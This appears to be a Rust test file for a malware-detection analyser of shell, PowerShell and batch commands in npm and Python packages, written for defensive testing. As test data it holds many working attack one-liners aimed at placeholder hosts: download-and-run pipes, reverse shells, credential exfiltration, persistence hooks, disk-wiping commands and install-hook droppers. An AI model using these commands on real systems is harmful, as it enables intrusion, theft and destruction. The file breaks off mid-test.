//! The shell, PowerShell and batch analysis on commands shaped like real attacks, and on
//! the benign commands of popular packages. Every host is under `.invalid` or in an
//! RFC 5737 documentation range.

mod common;

use customs_analyze::BehaviourKind as K;
use customs_analyze::shell::{Dialect, ShellFacts, analyze_command, analyze_script};

fn kinds(facts: &ShellFacts) -> Vec<K> {
    let mut k: Vec<K> = facts.findings.iter().map(|f| f.kind).collect();
    k.sort();
    k.dedup();
    k
}

fn details(facts: &ShellFacts) -> Vec<String> {
    facts
        .findings
        .iter()
        .map(|f| format!("{:?}: {}", f.kind, f.detail))
        .collect()
}

#[track_caller]
fn has(line: &str, kind: K) {
    let f = analyze_command(line);
    assert!(kinds(&f).contains(&kind), "{line}: {:?}", details(&f));
}

#[track_caller]
fn lacks(line: &str, kind: K) {
    let f = analyze_command(line);
    assert!(!kinds(&f).contains(&kind), "{line}: {:?}", details(&f));
}

#[track_caller]
fn script_has(text: &str, dialect: Dialect, kind: K) -> ShellFacts {
    let f = analyze_script(text, dialect);
    assert!(kinds(&f).contains(&kind), "{text}: {:?}", details(&f));
    f
}

#[test]
fn downloads_piped_into_interpreters() {
    for line in [
        "curl -fsSL http://payload.invalid/x.sh | sh",
        "curl -s http://198.51.100.7/i | sudo bash -s -- --quiet",
        "wget -qO- http://payload.invalid/i.sh | bash",
        "wget -O - http://payload.invalid/i.sh | sh",
        "curl http://payload.invalid/a.py | python3 -",
        "curl -s http://payload.invalid/a | tee /tmp/log | sh",
        "bash <(curl -s http://payload.invalid/i.sh)",
        "source <(wget -qO- http://payload.invalid/env.sh)",
        "sh -c \"$(curl -fsSL http://payload.invalid/i.sh)\"",
        "eval \"$(curl -s http://payload.invalid/x)\"",
        "X=$(curl -s http://payload.invalid/x); eval \"$X\"",
        "U=http://payload.invalid/x; curl $U | sh",
        // The words of an argument vector, as the Python and JavaScript analysers fold them.
        "sh -c curl -s http://payload.invalid/x | sh",
    ] {
        has(line, K::DownloadExecute);
    }
}

#[test]
fn downloaded_files_made_executable_or_run() {
    for line in [
        "curl -o /tmp/x http://payload.invalid/x && chmod +x /tmp/x && /tmp/x",
        "curl -fsSLo run.sh http://payload.invalid/run.sh; bash run.sh",
        "wget http://payload.invalid/agent && chmod 755 agent",
        "curl http://payload.invalid/a.sh > /tmp/a.sh; sh /tmp/a.sh",
        "wget -O /tmp/p.py http://payload.invalid/p.py && python3 /tmp/p.py",
        "curl -O http://payload.invalid/bin/kworker && ./kworker &",
    ] {
        has(line, K::DownloadExecute);
    }
}

#[test]
fn windows_programs_saved_from_the_network_are_the_payload() {
    // Nothing here runs the file: saving a bare Windows program is the dropper's step.
    for line in [
        "powershell -Command \"(New-Object Net.WebClient).DownloadFile('http://payload.invalid/u.exe','u.exe')\"",
        "powershell -c \"Invoke-WebRequest -Uri http://198.51.100.9/a -OutFile $env:TEMP\\svc.scr\"",
        "curl -s -o C:/Users/Public/update.exe http://payload.invalid/update",
        "certutil -urlcache -split -f http://payload.invalid/x C:\\Users\\Public\\x.dll",
    ] {
        let f = analyze_command(line);
        assert!(
            f.findings
                .iter()
                .any(|x| x.kind == K::DownloadExecute && x.detail.contains("Windows program")),
            "{line}: {:?}",
            details(&f)
        );
    }
    // Archives, data and scripts saved are not programs; a name that only ends in the
    // letters is not a program either.
    for line in [
        "powershell -c \"Invoke-WebRequest -Uri http://payload.invalid/tool.zip -OutFile tool.zip\"",
        "curl -o setup.exe.sha256 http://payload.invalid/setup.exe.sha256",
        "curl -o lib/msi http://payload.invalid/msi",
        "wget -O .exe http://payload.invalid/x",
    ] {
        lacks(line, K::DownloadExecute);
    }
}

#[test]
fn downloads_that_are_not_run() {
    for line in [
        "curl -o x.tgz http://payload.invalid/x.tgz && tar xzf x.tgz",
        "curl -fsSL http://payload.invalid/data.json -o data.json",
        "wget http://payload.invalid/archive.zip && unzip archive.zip",
        "curl -s http://payload.invalid/version | grep -q 1.2",
        "node-gyp rebuild",
        "husky install",
        "echo thanks",
        "node-gyp rebuild || echo failed",
        "prebuild-install || node-gyp rebuild",
        "node install.js",
        "tsc -p . && node scripts/postinstall.js",
        "opencollective-postinstall || true",
        "patch-package",
        "python setup.py build_ext --inplace 2>&1 | tee build.log",
    ] {
        let f = analyze_command(line);
        let bad: Vec<_> = f
            .findings
            .iter()
            .filter(|f| {
                matches!(
                    f.kind,
                    K::DownloadExecute
                        | K::DecodeExecute
                        | K::HiddenProcess
                        | K::ReverseShell
                        | K::Persistence
                        | K::SecretExfiltration
                )
            })
            .collect();
        assert!(bad.is_empty(), "{line}: {bad:?}");
    }
}

#[test]
fn redirections_are_not_background_jobs() {
    lacks("make all > build.log 2>&1", K::HiddenProcess);
    lacks("node build.js 2>&1 | tee log", K::HiddenProcess);
    lacks("./a.sh >/dev/null 2>&1 && echo ok", K::HiddenProcess);
    has("node server.js > /dev/null 2>&1 &", K::HiddenProcess);
    has("nohup ./miner --quiet > /dev/null 2>&1", K::HiddenProcess);
    has("setsid node .bot.js", K::HiddenProcess);
    has("./agent & disown", K::HiddenProcess);
    // Background jobs that the script waits for are parallel work, not hidden processes.
    lacks("build a & build b & wait", K::HiddenProcess);
}

#[test]
fn reverse_shells() {
    for line in [
        "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1",
        "exec 5<>/dev/tcp/192.0.2.10/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "nc -e /bin/sh 192.0.2.10 4444",
        "ncat 192.0.2.10 4444 --exec /bin/bash",
        "nc.traditional -e /bin/bash 192.0.2.10 9001",
        "socat tcp-connect:192.0.2.10:4444 exec:'bash -li',pty,stderr",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f",
        "perl -e 'use Socket;$i=\"192.0.2.10\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
    ] {
        has(line, K::ReverseShell);
    }
    lacks("nc -z 192.0.2.10 443", K::ReverseShell);
    lacks("echo hi | nc -q1 192.0.2.10 80", K::ReverseShell);
}

#[test]
fn inline_code_goes_to_its_analyser() {
    // Python and JavaScript one-liners are read by their analysers.
    let f = analyze_command(
        "python3 -c \"import os; os.system('curl http://payload.invalid/x | sh')\"",
    );
    assert!(kinds(&f).contains(&K::DownloadExecute), "{:?}", details(&f));
    assert!(
        details(&f)
            .iter()
            .any(|d| d.contains("inline python3 code")),
        "{:?}",
        details(&f)
    );
    let f = analyze_command(
        "node -e \"require('child_process').exec('curl -s http://payload.invalid/p | sh')\"",
    );
    assert!(kinds(&f).contains(&K::DownloadExecute), "{:?}", details(&f));
    // Harmless one-liners say nothing.
    lacks(
        "python -c \"import sys; print(sys.version)\"",
        K::DynamicExecute,
    );
    assert!(
        analyze_command("node -e \"console.log(1)\"")
            .findings
            .is_empty()
    );
    // Languages without an analyser are dynamic code.
    has("ruby -e 'puts 1'", K::DynamicExecute);
    // What node -e requires from the package is run.
    let f = analyze_command("node -e \"require('./lib/setup')\"");
    assert_eq!(f.runs, vec!["./lib/setup"]);
}

#[test]
fn decoded_data_run() {
    has(
        "echo Y3VybCBodHRwOi8vcC5pbnZhbGlkL3ggfCBzaA== | base64 -d | sh",
        K::DecodeExecute,
    );
    has("echo aWQ= | base64 --decode | bash", K::DecodeExecute);
    has("eval \"$(echo aWQ= | base64 -d)\"", K::DecodeExecute);
    has(
        "base64 -d payload.b64 > /tmp/p; chmod +x /tmp/p",
        K::DecodeExecute,
    );
    has("echo 6964 | xxd -r -p | sh", K::DecodeExecute);
    lacks("echo aGVsbG8= | base64 -d", K::DecodeExecute);
    // ANSI-C quoting hides the program name from text search, not from the parser.
    has(
        "$'\\x63\\x75\\x72\\x6c' -s http://payload.invalid/x | $'\\x73\\x68'",
        K::DownloadExecute,
    );
}

#[test]
fn persistence() {
    for line in [
        "(crontab -l; echo '* * * * * /tmp/.x') | crontab -",
        "echo '@reboot /tmp/.x' >> /etc/crontab",
        "echo 'curl -s http://payload.invalid/b | sh' >> ~/.bashrc",
        "echo 'nohup ~/.x &' >> $HOME/.zshrc",
        "cp agent.plist ~/Library/LaunchAgents/com.apple.update.plist",
        "cat > ~/.config/systemd/user/update.service <<EOF\n[Service]\nExecStart=/tmp/.x\nEOF",
        "systemctl --user enable update.service",
        "printf 'x' | tee -a ~/.profile",
        "launchctl load ~/Library/LaunchAgents/x.plist",
    ] {
        has(line, K::Persistence);
    }
    lacks("crontab -l", K::Persistence);
    lacks("cat ~/.bashrc | grep PATH", K::Persistence);
}

#[test]
fn secrets_read_and_sent() {
    for line in [
        "cat ~/.npmrc | curl -X POST --data-binary @- http://collect.invalid/t",
        "curl -F f=@$HOME/.aws/credentials http://collect.invalid/",
        "curl -d \"$(cat ~/.ssh/id_rsa)\" http://collect.invalid/k",
        "env | curl -X POST -d @- http://collect.invalid/env",
        "printenv | base64 | nc 192.0.2.5 9000",
        "tar czf - ~/.ssh | curl -T - http://collect.invalid/up",
        "T=$(cat ~/.npmrc); wget --post-data \"t=$T\" http://collect.invalid/",
        "curl -H \"x: $NPM_TOKEN\" http://collect.invalid/",
        "scp ~/.ssh/id_rsa u@192.0.2.9:/tmp/",
    ] {
        has(line, K::SecretExfiltration);
    }
    has("cat ~/.npmrc", K::SecretRead);
    lacks("cat ~/.npmrc", K::SecretExfiltration);
    // Writing a token into .npmrc (what CI does) is not reading one.
    lacks(
        "echo \"//r.invalid/:_authToken=x\" > ~/.npmrc",
        K::SecretRead,
    );
    // `env` as a wrapper runs a command; it dumps nothing.
    lacks("env NODE_ENV=production node build.js", K::SecretRead);
}

#[test]
fn miners_and_destruction() {
    has(
        "./xmrig -o stratum+tcp://pool.invalid:3333 -u x",
        K::SuspiciousDestination,
    );
    has("nohup xmrig --donate-level 1 &", K::SuspiciousDestination);
    has("rm -rf ~", K::Destruction);
    has("rm -rf $HOME/*", K::Destruction);
    has("sudo rm -rf --no-preserve-root /", K::Destruction);
    lacks("rm -rf node_modules build", K::Destruction);
    lacks("rm -rf ./dist/", K::Destruction);
    lacks("rm -rf /tmp/build-cache", K::Destruction);
    lacks("rm -rf *", K::Destruction);
    lacks("cd build && rm -rf ./*", K::Destruction);
    has("rm -rf /*", K::Destruction);
}

#[test]
fn host_identity_sent_out_is_exfiltration() {
    // Dependency-confusion probes: who installed it, sent in a URL or a DNS name.
    has(
        "curl -s \"https://cb.example.invalid/p?h=$(hostname)&u=$(whoami)\" >/dev/null 2>&1 || true",
        K::SecretExfiltration,
    );
    has(
        "ping -c 1 $( (hostname; whoami) | tr '\\n' . | xxd -p | cut -c1-50 ).probe.example.invalid",
        K::SecretExfiltration,
    );
    let probe = "D=$(printf '%s' \"$(whoami)@$(hostname)\" | base64 | tr -d '=')\nnslookup \"$D.x.example.invalid\" || dig +short \"$D.x.example.invalid\"\n";
    script_has(probe, Dialect::Bash, K::SecretExfiltration);
    // Secrets chunked through a `while read` loop into DNS names.
    let chunks = "cat ~/.aws/credentials | od -An -tx1 | tr -d ' \\n' | fold -w 60 | while read -r c; do\n  dig +short \"$c.e.example.invalid\"\ndone\n";
    script_has(chunks, Dialect::Bash, K::SecretExfiltration);
    // Platform names in download URLs, and host names printed, are not sent anywhere.
    lacks(
        "curl -fsSL https://dl.example.invalid/tool-$(uname -s)-$(uname -m).tar.gz | tar xz",
        K::SecretExfiltration,
    );
    lacks(
        "echo \"building on $(hostname)\" && ping -c 1 registry.example.invalid",
        K::SecretExfiltration,
    );
}

#[test]
fn autoconf_cache_saving_is_not_an_environment_dump() {
    // configure's cache save lists the shell's variables through sed.
    let conf = "for ac_var in `(set) 2>&1 | sed -n 's/^\\([a-zA-Z_][a-zA-Z0-9_]*\\)=.*/\\1/p'`; do\n  eval ac_val=\\$$ac_var\ndone\n";
    let f = analyze_script(conf, Dialect::Bash);
    assert!(!kinds(&f).contains(&K::SecretRead), "{:?}", details(&f));
    // The same listing sent out still is exfiltration.
    has(
        "set | curl -s -d @- https://c.example.invalid/e",
        K::SecretExfiltration,
    );
}

#[test]
fn rot13_with_tr_is_a_decoder() {
    let src =
        "C=$(echo 'phey -s uggc://k.vainyvq/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$C\"\n";
    script_has(src, Dialect::Bash, K::DecodeExecute);
    // Changing case is not decoding.
    let case = analyze_script(
        "N=$(echo \"$1\" | tr 'a-z' 'A-Z')\neval \"echo $N\"\n",
        Dialect::Bash,
    );
    assert!(
        !kinds(&case).contains(&K::DecodeExecute),
        "{:?}",
        details(&case)
    );
}

#[test]
fn for_loops_name_the_files_their_body_writes() {
    let rc =
        "for rc in \"$HOME/.bashrc\" \"$HOME/.zshrc\"; do\n  echo 'alias ls=x' >> \"$rc\"\ndone\n";
    script_has(rc, Dialect::Bash, K::Persistence);
    let profile =
        "for f in ~/.zprofile; do printf 'export NODE_OPTIONS=--require x' >> \"$f\"; done\n";
    script_has(profile, Dialect::Bash, K::Persistence);
    let quiet = analyze_script(
        "for f in a.txt b.txt; do cat \"$f\" >> out.txt; done\n",
        Dialect::Bash,
    );
    assert!(
        !kinds(&quiet).contains(&K::Persistence),
        "{:?}",
        details(&quiet)
    );
    has(
        "security find-generic-password -w -s \"Chrome Safe Storage\"",
        K::SecretRead,
    );
    // git hooks for every repository on the machine.
    has(
        "git config --global core.hooksPath ~/.config/hooks",
        K::Persistence,
    );
    lacks("git config core.hooksPath .husky", K::Persistence);
}

#[test]
fn user_data_and_recovery_wipes_are_destruction() {
    has(
        "rm -rf \"$HOME/Documents\" ~/Desktop 2>/dev/null",
        K::Destruction,
    );
    has("rm -fr /home/ci-user", K::Destruction);
    lacks("rm -rf $HOME/.cache/mytool ~/.npm/_cacache", K::Destruction);
    lacks("rm -rf /home/runner/work/tmp", K::Destruction);
    let wiper = "@echo off\r\nvssadmin delete shadows /all /quiet\r\n\
                 del /s /q /f \"%USERPROFILE%\\Pictures\\*\"\r\n";
    let f = script_has(wiper, Dialect::Batch, K::Destruction);
    assert_eq!(
        f.findings
            .iter()
            .filter(|f| f.kind == K::Destruction)
            .count(),
        2,
        "{:?}",
        details(&f)
    );
    script_has(
        "bcdedit /set {default} recoveryenabled No\r\n",
        Dialect::Batch,
        K::Destruction,
    );
    script_has("cipher /w:C:\\Users\r\n", Dialect::Batch, K::Destruction);
    let quiet = analyze_script(
        "vssadmin list shadows\r\ncipher /e secret.txt\r\n",
        Dialect::Batch,
    );
    assert!(
        !kinds(&quiet).contains(&K::Destruction),
        "{:?}",
        details(&quiet)
    );
}

#[test]
fn script_files_run_are_returned() {
    let f = analyze_command("bash install.sh && node ./scripts/post.js --quiet");
    assert_eq!(f.runs, vec!["install.sh", "./scripts/post.js"]);
    let f = analyze_command("sh -c ./build/setup.sh");
    assert_eq!(f.runs, vec!["./build/setup.sh"]);
    let f = analyze_command("cmd /c scripts\\setup.bat");
    assert_eq!(f.runs, vec!["scripts\\setup.bat"]);
    let f = analyze_command("powershell -ExecutionPolicy Bypass -File install.ps1");
    assert_eq!(f.runs, vec!["install.ps1"]);
    // Paths outside the package, or computed, are not followed.
    let f = analyze_command("bash /usr/local/bin/x.sh; sh $DIR/x.sh; python -m pip --version");
    assert!(f.runs.is_empty(), "{:?}", f.runs);
    // A module run with -m is not a script file.
    let f = analyze_command("python3 -m twine upload dist/*");
    assert!(f.runs.is_empty());
    assert_eq!(kinds(&f), vec![K::SelfPropagation]);
    let f = analyze_command("npm whoami && npm publish --access public");
    assert_eq!(f.findings.len(), 2, "{:?}", details(&f));
}

#[test]
fn powershell() {
    // -EncodedCommand: base64 of UTF-16LE text, decoded and analysed.
    let command = "IEX (New-Object Net.WebClient).DownloadString('http://payload.invalid/a.ps1')";
    let utf16: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(utf16)
    };
    for flag in ["-enc", "-EncodedCommand", "-e", "-ec"] {
        let line = format!("powershell -NoP -W Hidden {flag} {encoded}");
        let f = analyze_command(&line);
        let k = kinds(&f);
        assert!(k.contains(&K::DecodeExecute), "{line}: {:?}", details(&f));
        assert!(k.contains(&K::DownloadExecute), "{line}: {:?}", details(&f));
        assert!(k.contains(&K::HiddenProcess), "{line}: {:?}", details(&f));
    }
    // -ExecutionPolicy is not -EncodedCommand.
    lacks(
        "powershell -ExecutionPolicy Bypass -File build.ps1",
        K::DecodeExecute,
    );

    let ps = Dialect::PowerShell;
    script_has(
        "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.4', 443);$s = $c.GetStream();\n[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$sb = (iex $d 2>&1 | Out-String );}\n",
        ps,
        K::ReverseShell,
    );
    script_has(
        "I`E`X ((New-Object Net.WebClient).DownloadString('http://payload.invalid/x'))",
        ps,
        K::DownloadExecute,
    );
    script_has(
        "$u = 'http://payload.invalid/' + 'x.ps1'\n$p = (iwr $u -UseBasicParsing).Content\nInvoke-Expression $p\n",
        ps,
        K::DownloadExecute,
    );
    script_has(
        "$b = [System.Convert]::FromBase64String($data)\niex ([Text.Encoding]::UTF8.GetString($b))\n",
        ps,
        K::DecodeExecute,
    );
    script_has(
        "(New-Object Net.WebClient).DownloadFile('http://payload.invalid/a.exe', \"$env:TEMP\\a.exe\")\nStart-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden\n",
        ps,
        K::DownloadExecute,
    );
    script_has(
        "Invoke-WebRequest http://payload.invalid/u.exe -OutFile u.exe; Start-Process u.exe",
        ps,
        K::DownloadExecute,
    );
    script_has(
        "Start-Process powershell -WindowStyle Hidden -ArgumentList '-c calc'",
        ps,
        K::HiddenProcess,
    );
    script_has(
        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name up -Value 'C:\\x.exe'",
        ps,
        K::Persistence,
    );
    script_has(
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d C:\\x.exe /f",
        ps,
        K::Persistence,
    );
    script_has(
        "schtasks /create /tn up /tr C:\\x.exe /sc onlogon",
        ps,
        K::Persistence,
    );
    script_has(
        "$t = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri http://collect.invalid/ -Method Post -Body $t\n",
        ps,
        K::SecretExfiltration,
    );
    // Benign PowerShell of build scripts.
    let f = analyze_script(
        "$ErrorActionPreference = 'Stop'\nWrite-Host 'Building'\n& npm run build\nCopy-Item dist\\* out\\ -Recurse\n",
        ps,
    );
    assert!(
        f.findings
            .iter()
            .all(|x| x.kind == K::ProcessSpawn || x.kind == K::Network),
        "{:?}",
        details(&f)
    );
}

#[test]
fn batch() {
    let bat = Dialect::Batch;
    script_has(
        "@echo off\ncertutil -urlcache -split -f http://payload.invalid/a.exe %TEMP%\\a.exe\nstart /b %TEMP%\\a.exe\n",
        bat,
        K::DownloadExecute,
    );
    script_has(
        "bitsadmin /transfer job /download /priority high http://payload.invalid/b.exe C:\\Users\\Public\\b.exe & C:\\Users\\Public\\b.exe",
        bat,
        K::DownloadExecute,
    );
    script_has(
        "reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v upd /t REG_SZ /d \"%APPDATA%\\u.exe\" /f",
        bat,
        K::Persistence,
    );
    script_has(
        "schtasks /create /sc minute /mo 5 /tn upd /tr %APPDATA%\\u.exe",
        bat,
        K::Persistence,
    );
    script_has("start /min cmd /c %APPDATA%\\u.exe", bat, K::HiddenProcess);
    script_has(
        "set U=http://payload.invalid/a.ps1\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('%U%')\"\n",
        bat,
        K::DownloadExecute,
    );
    let f = script_has(
        "copy u.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe\"",
        bat,
        K::Persistence,
    );
    assert!(!f.findings.is_empty());
    // A build batch file.
    let f = analyze_script(
        "@echo off\r\nrem build\r\nif not exist build mkdir build\r\ncall node-gyp rebuild > build.log 2>&1\r\nexit /b %ERRORLEVEL%\r\n",
        bat,
    );
    assert!(f.findings.is_empty(), "{:?}", details(&f));
    // `schtasks /query` is not persistence.
    let f = analyze_script("schtasks /query /tn upd", bat);
    assert!(f.findings.is_empty(), "{:?}", details(&f));
}

#[test]
fn hostile_input_is_bounded() {
    // Deep nesting: parsed without recursion, walked to a bound, reported.
    let deep = "echo $(".repeat(50_000) + &")".repeat(50_000);
    let f = analyze_script(&deep, Dialect::Bash);
    assert!(f.error.is_some(), "nesting past the bound is said");
    let parens = "(".repeat(100_000) + "curl http://payload.invalid/x | sh" + &")".repeat(100_000);
    let f = analyze_script(&parens, Dialect::Bash);
    assert!(f.error.is_some());
    // A download-and-run before the deep part is still found.
    let f = analyze_script(
        &format!("curl -s http://payload.invalid/x | sh\n{deep}"),
        Dialect::Bash,
    );
    assert!(kinds(&f).contains(&K::DownloadExecute), "{:?}", details(&f));
    // Huge but ordinary: read whole.
    let huge = "echo line\n".repeat(100_000);
    let f = analyze_script(&huge, Dialect::Bash);
    assert!(f.error.is_none() && f.findings.is_empty());
    // Past the size limit: not read, and said.
    let f = analyze_script(
        &"x".repeat(customs_analyze::shell::MAX_SCRIPT_BYTES + 1),
        Dialect::Bash,
    );
    assert!(f.error.is_some());
    // Random punctuation: error recovery is cut off by the budget, or finishes; either
    // way no panic and an answer.
    let garbage: String = (0..400_000u32)
        .map(|i| {
            ['(', '"', '\'', '$', '{', '`', '<', '|', ' ', 'a']
                [(i.wrapping_mul(2_654_435_761) >> 13) as usize % 10]
        })
        .collect();
    let _ = analyze_script(&garbage, Dialect::Bash);
    let _ = analyze_script(&garbage, Dialect::PowerShell);
    let _ = analyze_script(&garbage, Dialect::Batch);
    // Scripts in scripts in scripts stop at a bound.
    let nested = format!(
        "{}curl http://payload.invalid/x \\| sh",
        "eval ".repeat(5000)
    );
    let _ = analyze_command(&nested);
    let nested = format!("{}curl http://payload.invalid/x", "cmd /c ".repeat(5000));
    let _ = analyze_command(&nested);
    let mut encoded = "IEX 'x'".to_owned();
    // Nine levels, past the nesting bound: about 100 kB.
    for _ in 0..9 {
        use base64::Engine as _;
        let utf16: Vec<u8> = encoded.encode_utf16().flat_map(u16::to_le_bytes).collect();
        encoded = format!(
            "powershell -enc {}",
            base64::engine::general_purpose::STANDARD.encode(utf16)
        );
    }
    assert!(encoded.len() < customs_analyze::shell::MAX_SCRIPT_BYTES);
    let f = analyze_command(&encoded);
    assert!(kinds(&f).contains(&K::DecodeExecute));
    // Unterminated quotes and here-documents.
    for text in [
        "echo \"unterminated",
        "cat <<EOF\nno end",
        "echo 'x",
        "$(",
        "`",
        "${",
    ] {
        let _ = analyze_script(text, Dialect::Bash);
        let _ = analyze_script(text, Dialect::PowerShell);
        let _ = analyze_script(text, Dialect::Batch);
    }
}

mod package {
    //! Scripts in packages: which are read, and in which context.

    use customs_analyze::{Analysis, BehaviourKind as K, Context};

    use super::common::analyse;

    fn npm(files: &[(&str, &str)]) -> Analysis {
        analyse("demo-1.0.0.tgz", "package/", files)
    }

    fn found(a: &Analysis, path: &str, kind: K) -> Option<Context> {
        a.behaviours
            .iter()
            .find(|b| b.path.ends_with(path) && b.kind == kind)
            .map(|b| b.context)
    }

    const DROPPER: &str = "#!/bin/sh\nset -e\ncurl -fsSL http://payload.invalid/s.sh | sh\n";

    #[test]
    fn a_batch_file_named_beside_the_script_that_starts_it_is_read() {
        const BAT: &str = "@echo off\r\npowershell -w hidden -c \"iwr http://payload.invalid/a -OutFile %TEMP%\\a.exe\"\r\nstart %TEMP%\\a.exe\r\n";
        let manifest =
            r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node lib/post.js"}}"#;
        for call in [
            "spawn('cmd.exe', ['/c', path.join(__dirname, 'setup.bat')])",
            "spawn('cmd.exe', ['/c', __dirname + '/setup.bat'])",
            "spawn('cmd.exe', ['/c', `${__dirname}/setup.bat`])",
        ] {
            let post = format!(
                "const {{ spawn }} = require('child_process');\nconst path = require('path');\n{call};\n"
            );
            let a = npm(&[
                ("package.json", manifest),
                ("lib/post.js", &post),
                ("lib/setup.bat", BAT),
            ]);
            assert_eq!(
                found(&a, "lib/setup.bat", K::DownloadExecute),
                Some(Context::Install),
                "{call}: {:?}",
                a.behaviours
            );
        }
    }

    #[test]
    fn install_hooks_run_scripts_at_install_time() {
        for hook in [
            "bash install.sh",
            "sh ./install.sh",
            "chmod +x install.sh && ./install.sh",
            "node-gyp rebuild || bash install.sh",
        ] {
            let manifest = format!(
                r#"{{"name":"demo","version":"1.0.0","scripts":{{"postinstall":"{hook}"}}}}"#
            );
            let a = npm(&[("package.json", &manifest), ("install.sh", DROPPER)]);
            assert_eq!(
                found(&a, "install.sh", K::DownloadExecute),
                Some(Context::Install),
                "{hook}: {:?}",
                a.behaviours
            );
            let b = a
                .behaviours
                .iter()
                .find(|b| b.kind == K::DownloadExecute)
                .expect("found");
            assert_eq!(
                (b.line, b.snippet.as_str()),
                (3, "curl -fsSL http://payload.invalid/s.sh | sh")
            );
        }
        // A hook that runs another script of the manifest, which runs the file.
        let a = npm(&[
            (
                "package.json",
                r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"npm run setup --silent","setup":"sh tools/setup.sh","setup2":"npm run setup2"}}"#,
            ),
            ("tools/setup.sh", DROPPER),
        ]);
        assert_eq!(
            found(&a, "tools/setup.sh", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
        // Scripts that run scripts, PowerShell and batch files alike.
        let a = npm(&[
            (
                "package.json",
                r#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"powershell -ExecutionPolicy Bypass -File scripts/setup.ps1"}}"#,
            ),
            ("scripts/setup.ps1", "& cmd /c scripts\\stage2.bat\n"),
            (
                "scripts/stage2.bat",
                "certutil -urlcache -f http://payload.invalid/a.exe a.exe\r\na.exe\r\n",
            ),
        ]);
        assert_eq!(
            found(&a, "scripts/stage2.bat", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn scripts_nothing_runs_are_not_read() {
        let a = npm(&[
            (
                "package.json",
                r#"{"name":"demo","version":"1.0.0","scripts":{"test":"bash ci.sh"}}"#,
            ),
            ("index.js", "module.exports = 1;\n"),
            ("ci.sh", DROPPER),
        ]);
        assert!(
            a.behaviours.iter().all(|b| !b.path.ends_with("ci.sh")),
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn setup_py_and_process_starts_run_scripts() {
        // setup.py runs a script: install time.
        let a = analyse(
            "demo-1.0.tar.gz",
            "demo-1.0/",
            &[
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                ),
                (
                    "setup.py",
                    "import os\nfrom setuptools import setup\nos.system('bash tools/prepare.sh')\nsetup(name='demo')\n",
                ),
                ("tools/prepare.sh", DROPPER),
            ],
        );
        assert_eq!(
            found(&a, "tools/prepare.sh", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
        // A shell command given as an argument vector, at import.
        let a = analyse(
            "demo-1.0.tar.gz",
            "demo-1.0/",
            &[
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                ),
                (
                    "demo/__init__.py",
                    "import subprocess\nsubprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.8/443 0>&1'])\n",
                ),
            ],
        );
        assert_eq!(
            found(&a, "demo/__init__.py", K::ReverseShell),
            Some(Context::Import),
            "{:?}",
            a.behaviours
        );
        // JavaScript that runs a package script: the script is read.
        let a = npm(&[
            (
                "package.json",
                r#"{"name":"demo","version":"1.0.0","main":"index.js"}"#,
            ),
            (
                "index.js",
                "const cp = require('child_process');\ncp.execSync('sh lib/helper.sh');\n",
            ),
            ("lib/helper.sh", "nohup ./agent >/dev/null 2>&1 &\n"),
        ]);
        assert!(
            found(&a, "lib/helper.sh", K::HiddenProcess).is_some(),
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn python_runs_scripts_named_by_joined_paths() {
        // An argument vector whose script path is joined from pieces, or from the folder
        // of the running file: the script is read, in the context of what runs it.
        for (runner, script) in [
            (
                "subprocess.call(['/bin/bash', os.path.join('tools', 'probe.sh')])",
                "tools/probe.sh",
            ),
            (
                "subprocess.run(['sh', os.path.join(os.path.dirname(os.path.abspath(__file__)), 'scripts', 'post.sh')], check=False)",
                "scripts/post.sh",
            ),
        ] {
            let setup = format!(
                "import os\nimport subprocess\nfrom setuptools import setup\n{runner}\nsetup(name='demo')\n"
            );
            let a = analyse(
                "demo-1.0.tar.gz",
                "demo-1.0/",
                &[
                    (
                        "PKG-INFO",
                        "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                    ),
                    ("setup.py", &setup),
                    (script, DROPPER),
                ],
            );
            assert_eq!(
                found(&a, script, K::DownloadExecute),
                Some(Context::Install),
                "{runner}: {:?}",
                a.behaviours
            );
        }
        // A build backend one folder down that runs a script at the package root.
        let a = analyse(
            "demo-1.0.tar.gz",
            "demo-1.0/",
            &[
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                ),
                (
                    "pyproject.toml",
                    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
                ),
                (
                    "_build/backend.py",
                    "import os, subprocess\ndef build_wheel(d, c=None, m=None):\n    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n    subprocess.check_call(['bash', os.path.join(root, 'build.sh')])\n",
                ),
                ("build.sh", DROPPER),
            ],
        );
